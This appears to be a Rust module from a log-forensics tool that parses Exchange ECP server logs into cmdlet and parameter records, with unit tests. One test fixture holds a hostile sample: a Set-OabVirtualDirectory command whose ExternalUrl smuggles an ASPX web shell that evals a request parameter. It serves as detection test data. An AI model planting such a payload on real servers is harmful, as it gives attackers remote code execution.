//! ECP server logs (`Logging\ECP\Server\*.log`): `#Fields: TimeStamp,ServerName,EventId,EventData`,
//! where EventData is `S:KEY=VALUE;…` and the command is `S:CMD=<Cmdlet>.<Param>='…'.<Param>='…'`
//! (quotes inside values doubled by CSV).

use chrono::{DateTime, Utc};

use crate::csvline::CsvLine;
use crate::time::parse_iso;

/// One ECP server log record.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct EcpRecord {
    pub timestamp: Option<DateTime<Utc>>,
    pub server: String,
    pub event_id: String,
    /// `S:CMD=` value: the cmdlet with its parameters, verbatim.
    pub command: Option<String>,
    pub cmdlet: Option<String>,
    /// `(name, value)` pairs of the command, in order.
    pub params: Vec<(String, String)>,
    pub url: Option<String>,
}

/// Parse one data line (not a `#` line). `None` for lines that are not ECP records.
pub fn parse_line(csv: &mut CsvLine, line: &[u8]) -> Option<EcpRecord> {
    if line.first() == Some(&b'#') || line.is_empty() {
        return None;
    }
    if csv.parse(line) < 4 {
        return None;
    }
    let ts = parse_iso(csv.get(0)?);
    let server = String::from_utf8_lossy(csv.get(1)?).into_owned();
    let event_id = String::from_utf8_lossy(csv.get(2)?).into_owned();
    // EventData may itself contain commas when it was not quoted: join the rest.
    let mut data = String::from_utf8_lossy(csv.get(3)?).into_owned();
    for i in 4..csv.len() {
        data.push(',');
        data.push_str(&String::from_utf8_lossy(csv.get(i).unwrap_or(b"")));
    }
    let command = kv(&data, "S:CMD=");
    let (cmdlet, params) = match &command {
        Some(c) => split_command(c),
        None => (None, Vec::new()),
    };
    Some(EcpRecord {
        timestamp: ts,
        server,
        event_id,
        command,
        cmdlet,
        params,
        url: kv(&data, "S:URL="),
    })
}

/// The value of `key` in `S:A=…;S:B=…` data, honouring single-quoted values that contain `;`.
fn kv(data: &str, key: &str) -> Option<String> {
    let start = data.find(key)? + key.len();
    let rest = &data[start..];
    let mut in_quote = false;
    let bytes = rest.as_bytes();
    let mut i = 0;
    while i < bytes.len() {
        match bytes[i] {
            b'\'' => in_quote = !in_quote,
            b';' if !in_quote && rest[i + 1..].starts_with("S:") => {
                return Some(rest[..i].to_string())
            }
            _ => {}
        }
        i += 1;
    }
    Some(rest.trim_end_matches(';').to_string())
}

/// `Set-OabVirtualDirectory.ExternalUrl='x'.Identity='y'` → cmdlet and parameters.
pub fn split_command(cmd: &str) -> (Option<String>, Vec<(String, String)>) {
    let (cmdlet, mut rest) = match cmd.find('.') {
        Some(i) => (&cmd[..i], &cmd[i + 1..]),
        None => (cmd, ""),
    };
    let mut params = Vec::new();
    while !rest.is_empty() {
        let Some(eq) = rest.find('=') else { break };
        let name = rest[..eq].trim_matches('.').to_string();
        let after = &rest[eq + 1..];
        if let Some(quoted) = after.strip_prefix('\'') {
            // Value ends at a single quote not doubled.
            let b = quoted.as_bytes();
            let mut j = 0;
            let mut value = String::new();
            while j < b.len() {
                if b[j] == b'\'' {
                    if j + 1 < b.len() && b[j + 1] == b'\'' {
                        value.push('\'');
                        j += 2;
                        continue;
                    }
                    break;
                }
                let ch_len = quoted[j..].chars().next().map_or(1, |c| c.len_utf8());
                value.push_str(&quoted[j..j + ch_len]);
                j += ch_len;
            }
            params.push((name, value));
            rest = quoted.get(j + 1..).unwrap_or("");
        } else {
            let end = after.find('.').unwrap_or(after.len());
            params.push((name, after[..end].to_string()));
            rest = &after[end..];
        }
        rest = rest.trim_start_matches('.');
    }
    let cmdlet = cmdlet.trim();
    ((!cmdlet.is_empty()).then(|| cmdlet.to_string()), params)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parses_set_virtual_directory_with_script() {
        let line = br#"2021-03-03T04:20:00.000Z,EX01,ECP.Request,"S:TIME=10;S:CMD=Set-OabVirtualDirectory.ExternalUrl='http://f/<script language=""JScript"" runat=""server"">function Page_Load(){eval(Request[""p""],""unsafe"");}</script>'.Identity='abc; def';S:REQID=;S:URL=/ecp/DDI/DDIService.svc/SetObject""#;
        let mut csv = CsvLine::new();
        let r = parse_line(&mut csv, line).unwrap();
        assert_eq!(r.cmdlet.as_deref(), Some("Set-OabVirtualDirectory"));
        assert_eq!(r.params[0].0, "ExternalUrl");
        assert!(r.params[0].1.contains(r#"runat="server""#));
        assert_eq!(
            r.params[1],
            ("Identity".to_string(), "abc; def".to_string())
        );
        assert!(r.url.unwrap().starts_with("/ecp/DDI"));
        assert!(r.timestamp.is_some());
    }

    #[test]
    fn benign_and_garbage() {
        let mut csv = CsvLine::new();
        let r = parse_line(
            &mut csv,
            b"2023-01-11T00:02:33.966Z,SERVER,ECP.Request,S:TIME=13;S:CMD=Get-InboxRule;S:REQID=;S:URL=/ecp/x",
        )
        .unwrap();
        assert_eq!(r.cmdlet.as_deref(), Some("Get-InboxRule"));
        assert!(r.params.is_empty());
        assert!(parse_line(&mut csv, b"#Fields: TimeStamp").is_none());
        assert!(parse_line(&mut csv, b"junk").is_none());
    }
}
